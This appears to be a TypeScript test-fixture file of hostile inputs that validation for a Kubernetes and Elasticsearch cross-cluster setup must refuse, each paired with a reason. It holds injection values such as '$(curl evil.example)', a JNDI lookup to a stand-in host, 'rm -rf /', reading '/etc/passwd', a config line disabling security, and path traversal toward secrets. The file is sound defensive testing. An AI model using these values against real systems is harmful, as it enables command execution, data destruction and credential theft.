/**
 * Values an attacker or a typo sends, reused across routes: `[value, why]`. Every one must be
 * refused by validation, before a Kubernetes or Elasticsearch call could carry it anywhere.
 */
export type HostileValue = [value: unknown, why: string];

export const BAD_ALIASES: HostileValue[] = [
  ['', 'an empty alias'],
  ['logs:prod', "an alias with ':' (a cross-cluster expression)"],
  ['logs.prod', "an alias with '.' (breaks cluster.remote.<alias>.* settings)"],
  ['logs prod', 'an alias with a space'],
  ['x'.repeat(101), 'an alias of 101 characters'],
  ['"; DROP TABLE remotes; --', 'SQL-style injection in the alias'],
  ['logs\nxpack.security.enabled: false', 'a newline injecting an elasticsearch.yml line'],
  ['$(curl evil.example)', 'shell command substitution in the alias (it is pasted into keystore commands)'],
  ['${jndi:ldap://evil.example/a}', 'a JNDI lookup in the alias'],
  [42, 'a number as the alias'],
  [null, 'null as the alias'],
  [['logs'], 'an array as the alias'],
];

export const BAD_NAMESPACES: HostileValue[] = [
  ['Search-Prod', 'upper case in the namespace'],
  ['-search', "a namespace starting with '-'"],
  ['a'.repeat(64), 'a namespace of 64 characters'],
  ['../kube-system', 'path traversal in the namespace'],
  ['search-prod/secrets', "a '/' smuggling a resource path into the namespace"],
  ['search.prod', "a '.' in the namespace (a label, not a subdomain)"],
  ['', 'an empty namespace'],
  ['search-prod;rm -rf /', 'shell injection in the namespace'],
  [7, 'a number as the namespace'],
];

export const BAD_NAMES: HostileValue[] = [
  ['Logs-Prod', 'upper case in the ECK cluster name'],
  ['a'.repeat(254), 'a name of 254 characters'],
  ['logs-prod/../../secrets', 'path traversal in the name'],
  ['logs-prod?watch=true', 'a query string smuggled into the name'],
  ['logs..prod', 'an empty DNS label in the name'],
  ['.logs', "a name starting with '.'"],
  ['logs prod', 'a space in the name'],
  ['logs\u0000prod', 'a NUL byte in the name'],
  [{ name: 'logs-prod' }, 'an object as the name'],
];

/** Index patterns a cross-cluster API key must never be given. */
export const BAD_INDEX_PATTERNS: HostileValue[] = [
  ['', 'an empty index pattern'],
  ['logs-*,.security-*', 'a comma adding a second pattern'],
  ['logs" OR 1=1', 'a quote in the pattern'],
  ['<script>alert(1)</script>', 'markup in the pattern'],
  ['../.security', "a '/' in the pattern"],
  ['logs *', 'a space in the pattern'],
  ['x'.repeat(256), 'a pattern of 256 characters'],
  ['logs|cat /etc/passwd', "a '|' in the pattern"],
];
